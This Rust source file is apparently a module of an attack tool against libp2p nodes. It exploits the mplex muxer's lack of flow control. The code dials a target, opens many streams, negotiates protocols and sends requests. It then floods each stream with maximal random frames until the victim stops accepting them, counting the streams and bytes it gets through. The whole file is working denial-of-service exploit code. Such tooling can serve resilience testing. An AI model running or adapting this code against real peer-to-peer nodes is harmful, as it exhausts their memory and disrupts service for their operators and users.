//! Attackers over mplex, which has no flow control: frames as large as may be that nobody reads.

use crate::{
    attack::{Attack, Tally, Target},
    node::{Failure, random_bytes},
    readers::{PROTOCOLS, SERVED_STREAMS, request},
    wire::{MPLEX_FRAME, Way, transport},
};
use futures::{AsyncReadExt as _, AsyncWriteExt as _, future::poll_fn};
use libp2p::{
    core::{
        Endpoint, StreamMuxer as _, Transport as _,
        muxing::{StreamMuxerBox, SubstreamBox},
        transport::{DialOpts, PortUse},
    },
    identity::Keypair,
};
use std::{pin::Pin, sync::atomic::Ordering, task::Poll, time::Duration};

/// Streams of a connection that the victim takes, both ways: some are its own.
const STREAMS: usize = 16;
/// Time for a stream's protocol to be agreed on.
const AGREED: Duration = Duration::from_secs(5);
/// What a stream begins with, each line with its length in front.
const MULTISTREAM: &str = "\x13/multistream/1.0.0\n";

/// One identity: as many streams as are taken, one frame on each in turn until no more is taken. Half of them ask for
/// proofs first, of which nothing is read; the others begin with the frames.
pub(crate) async fn live(target: &Target, tally: &Tally) -> Result<(), Failure> {
    let key = Keypair::generate_ed25519();
    let mut transport = transport(Way::Mplex, &key)?;
    let options = DialOpts {
        role: Endpoint::Dialer,
        port_use: PortUse::New,
    };
    tally.identities[Way::Mplex as usize].fetch_add(1, Ordering::Relaxed);
    let (_, mut muxer) = transport
        .dial(target.address(Way::Mplex).clone(), options)?
        .await?;
    tally.let_in[Way::Mplex as usize].fetch_add(1, Ordering::Relaxed);
    // What the victim opens is kept and left alone.
    let mut theirs = Vec::new();
    let mut ours = Vec::new();
    poll_fn(|cx| {
        drive(&mut muxer, &mut theirs, cx)?;
        while ours.len() < STREAMS {
            match Pin::new(&mut muxer).poll_outbound(cx)? {
                Poll::Ready(stream) => ours.push(stream),
                Poll::Pending => return Poll::Pending,
            }
        }
        Poll::Ready(Ok::<_, Failure>(()))
    })
    .await?;
    let sending = async {
        let frame = random_bytes(3, MPLEX_FRAME);
        let protocols = PROTOCOLS
            .into_iter()
            .flat_map(|protocol| [protocol; SERVED_STREAMS]);
        for (stream, protocol) in ours.iter_mut().zip(protocols) {
            tally.tried(Attack::Frames);
            tally.streams_tried.fetch_add(1, Ordering::Relaxed);
            let name = protocol.id();
            let wanted = format!(
                "{MULTISTREAM}{}{name}\n",
                char::from(u8::try_from(name.len() + 1)?)
            );
            stream.write_all(wanted.as_bytes()).await?;
            stream.flush().await?;
            let mut agreed = vec![0; wanted.len()];
            tokio::time::timeout(AGREED, stream.read_exact(&mut agreed)).await??;
            if agreed != wanted.as_bytes() {
                return Err("another protocol was agreed on".into());
            }
            tally.streams_opened.fetch_add(1, Ordering::Relaxed);
            tally.sure(Attack::Frames);
            stream.write_all(&request(protocol, &target.served())).await?;
            stream.flush().await?;
        }
        // What the victim ends is left where it is: it holds nothing any more.
        let mut open: Vec<SubstreamBox> = ours;
        while !open.is_empty() {
            let mut left = Vec::new();
            for mut stream in open {
                if stream.write_all(&frame).await.is_ok() && stream.flush().await.is_ok() {
                    tally.sent(frame.len());
                    left.push(stream);
                }
            }
            open = left;
        }
        Ok(())
    };
    tokio::select! {
        result = sending => result,
        error = poll_fn(|cx| match drive(&mut muxer, &mut theirs, cx) {
            Ok(()) => Poll::Pending,
            Err(error) => Poll::Ready(error),
        }) => {
            tally.ended(Attack::Frames);
            Err(error)
        }
    }
}

/// Lets the connection do what it has to.
fn drive(
    muxer: &mut StreamMuxerBox,
    theirs: &mut Vec<SubstreamBox>,
    cx: &mut std::task::Context<'_>,
) -> Result<(), Failure> {
    if let Poll::Ready(result) = Pin::new(&mut *muxer).poll(cx) {
        result?;
    }
    while let Poll::Ready(stream) = Pin::new(&mut *muxer).poll_inbound(cx) {
        theirs.push(stream?);
    }
    Ok(())
}
